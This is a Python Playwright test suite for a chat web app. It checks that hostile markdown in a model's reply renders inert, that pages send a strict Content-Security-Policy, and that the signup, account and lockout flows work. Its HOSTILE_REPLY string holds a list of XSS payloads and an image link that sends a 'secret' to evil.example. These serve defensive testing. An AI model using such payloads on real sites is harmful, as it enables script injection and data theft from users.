"""Untrusted model output in a real browser: nothing runs, nothing leaks; the CSP is strict."""

import re

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import page_until, settle

pytestmark = pytest.mark.browser

HOSTILE_REPLY = """Echo: hostile markdown

<script>alert(1)</script>

<img src=x onerror=alert(1)>

[click](javascript:alert(1))

![x](https://evil.example/?q=secret)

[encoded](&#106;avascript&#58;alert(1))

[spaced]( javascript:alert(1) )

<a href="javascript:alert(1)">raw link</a>

<svg onload=alert(1)></svg> <iframe src="javascript:alert(1)"></iframe>

<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>

<details open ontoggle=alert(1)>x</details> <input autofocus onfocus=alert(1)>

[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1)) <javascript:alert(1)>

![x" onerror="alert(1)](https://evil.example/a.png) [![x](https://evil.example/i.png)](javascript:alert(1))

```html
<script>alert(1)</script><img src=x onerror=alert(1)>
```

~~~
</code></pre><script>alert(1)</script>
~~~

| cell |
|---|
| <script>alert(1)</script> |

[fine link](https://example.com/docs)
"""


def _csp_directives(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        name, *values = part.split()
        if part.strip():
            directives[name.lower()] = values
    return directives


def test_hostile_markdown_renders_inert(app):
    app.fake_api.reply = HOSTILE_REPLY
    app.fake_api.latency = 0.3
    app.start_worker()
    page = app.new_page("/", user=app.user())
    app.send(page, "Say something nasty")
    turn = app.wait_for_answer(page, "Echo: hostile markdown")
    markdown = turn.locator(".markdown")

    for _ in range(2):  # as the live poll swapped it in, then as the page draws it
        expect(markdown).to_contain_text("fine link")
        assert markdown.locator("script, img, iframe, svg, object, embed, style").count() == 0
        hrefs = markdown.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        assert hrefs, "the safe link should stay a link"
        assert not [h for h in hrefs if h is None or re.match(r"\s*(javascript|data|vbscript):", h, re.I)], hrefs
        assert "https://example.com/docs" in hrefs
        rels = markdown.locator("a").evaluate_all("links => links.map(a => a.rel)")
        assert all("noopener" in rel for rel in rels), rels
        # No event handler attribute anywhere in the answer.
        handlers = markdown.evaluate(
            "el => [...el.querySelectorAll('*')].flatMap(n => [...n.attributes].map(a => a.name))"
            ".filter(name => name.startsWith('on'))"
        )
        assert handlers == []
        # Shown as text, not run.
        expect(markdown).to_contain_text("alert(1)")
        page.reload()

    # Clicking what is left of the links runs nothing either.
    for name in ("click", "encoded", "data", "vb"):
        markdown.get_by_text(name).first.click()
    settle(page)  # a click's handlers and anything they queued have run
    assert app.guard(page).dialogs == []
    # Nothing was fetched from elsewhere (the guard also fails the test on that).
    assert not [e for e in app.guard(page).errors if "evil.example" in e]


def test_pages_send_a_strict_content_security_policy(app):
    page = app.new_page()
    for path in ("/login/", "/signup/"):
        response = page.goto(path)
        _check_csp(response)
    page = app.new_page(user=app.user())
    _check_csp(page.goto("/"))
    headers = page.goto("/").headers
    assert headers.get("x-frame-options") == "DENY"
    assert headers.get("x-content-type-options") == "nosniff"

    # The browser enforces it: an injected inline script does not run.
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.__ran = true';"
        " document.head.appendChild(s); }"
    )
    assert page.evaluate("window.__ran === true") is False
    guard = app.guard(page)
    assert [e for e in guard.errors if "CSP violation" in e], "the blocked script should be reported"
    guard.errors.clear()  # expected here; any other CSP report fails the test


def _check_csp(response) -> None:
    header = response.headers.get("content-security-policy")
    assert header, f"no Content-Security-Policy on {response.url}"
    directives = _csp_directives(header)
    script_src = directives.get("script-src", directives.get("default-src"))
    assert script_src is not None, header
    assert "'unsafe-inline'" not in script_src, header
    assert "'unsafe-eval'" not in script_src, header
    assert "*" not in script_src, header
    assert directives.get("object-src") == ["'none'"], header
    assert directives.get("frame-ancestors") == ["'none'"], header
    assert "'unsafe-inline'" not in directives.get("style-src", []), header


def test_the_page_guard_catches_what_it_should(app):
    """The harness itself: a dialog, a script error and a CSP report are all caught."""
    page = app.new_page("/login/")
    guard = app.guard(page)
    page.evaluate("() => { window.setTimeout(() => alert('boo'), 0); }")
    page.evaluate("() => { window.setTimeout(() => { throw new Error('kaput'); }, 0); }")
    page.evaluate("() => { const s = document.createElement('script'); s.textContent = '1'; document.body.append(s); }")
    guard.expect_dialog("sure", accept=True)
    assert page.evaluate("confirm('Are you sure?')") is True
    page_until(page, lambda: any("kaput" in e for e in guard.errors) and any("'boo'" in e for e in guard.errors))
    errors = list(guard.errors)
    guard.errors.clear()
    assert any("unexpected alert dialog: 'boo'" in e for e in errors), errors
    assert any("kaput" in e for e in errors), errors
    assert any("CSP violation" in e for e in errors), errors
    assert len(errors) == 3, errors


def test_sign_up_tells_that_admins_read_prompts_and_the_account_page_works(app, tmp_path):
    """The sign-up page's privacy note, the setup link's page, and the account page, as a user sees them."""
    from django.urls import reverse

    from accounts import setup

    from .conftest import PHONE, screenshot

    page = app.new_page("/signup/")
    expect(page.locator("#privacy-note")).to_contain_text("can read every prompt")
    expect(page.get_by_role("status")).to_contain_text("setup link")  # no administrator yet
    screenshot(page, "signup-no-admin", tmp_path)
    setup_page = app.new_page(reverse("first_admin_setup", args=[setup.setup_token()]))
    expect(setup_page.get_by_role("heading", name="Create the administrator")).to_be_visible()
    setup_page.fill("#id_username", "boss")
    setup_page.fill("#id_password1", "a-Long-pass-77")
    setup_page.fill("#id_password2", "a-Long-pass-77")
    setup_page.get_by_role("button", name="Create the administrator").click()
    setup_page.locator("#account-menu summary").click()  # the sidebar's account menu
    expect(setup_page.locator(".admin-link").first).to_be_visible()
    setup_page.locator("#account-link").click()
    expect(setup_page.get_by_role("heading", name="Your account")).to_be_visible()
    screenshot(setup_page, "account-desktop", tmp_path)
    setup_page.get_by_role("button", name="Sign out everywhere else").click()
    expect(setup_page.get_by_role("status").first).to_contain_text("Signed out everywhere else")
    phone = app.new_page("/account/", user=app.user("ann"), viewport=PHONE, color_scheme="dark")
    expect(phone.get_by_role("link", name="Change password")).to_be_visible()
    assert phone.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    screenshot(phone, "account-phone-dark", tmp_path)


def test_a_locked_sign_in_says_so(app, tmp_path):
    from .conftest import screenshot

    app.user("ann")
    page = app.new_page()
    for _ in range(app.settings.AXES_FAILURE_LIMIT):
        page.goto("/login/")
        page.fill("#id_username", "ann")
        page.fill("#id_password", "wrong-password")
        page.get_by_role("button", name="Sign in").click()
    page.goto("/login/")
    page.fill("#id_username", "ann")
    page.fill("#id_password", "e2e-pass-Quokka-42")
    with page.expect_response(lambda r: r.url.endswith("/login/") and r.request.method == "POST") as response:
        page.get_by_role("button", name="Sign in").click()
    assert response.value.status == 429
    expect(page.get_by_role("alert")).to_contain_text("Even the right password is refused")
    screenshot(page, "locked-out", tmp_path)
